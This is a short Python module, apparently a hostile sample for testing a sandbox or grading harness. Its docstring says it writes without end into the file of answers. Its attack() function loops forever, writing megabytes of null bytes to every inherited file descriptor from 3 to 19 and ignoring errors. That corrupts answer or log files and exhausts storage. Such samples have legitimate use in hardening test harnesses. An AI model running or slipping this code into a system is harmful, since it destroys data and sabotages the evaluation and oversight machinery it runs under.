"""Writes without end into the file of answers."""

import os

ONCE = True


def attack(name, arguments):
    while True:
        for fd in range(3, 20):
            try:
                os.write(fd, b"\0" * 2**20)
            except OSError:
                pass
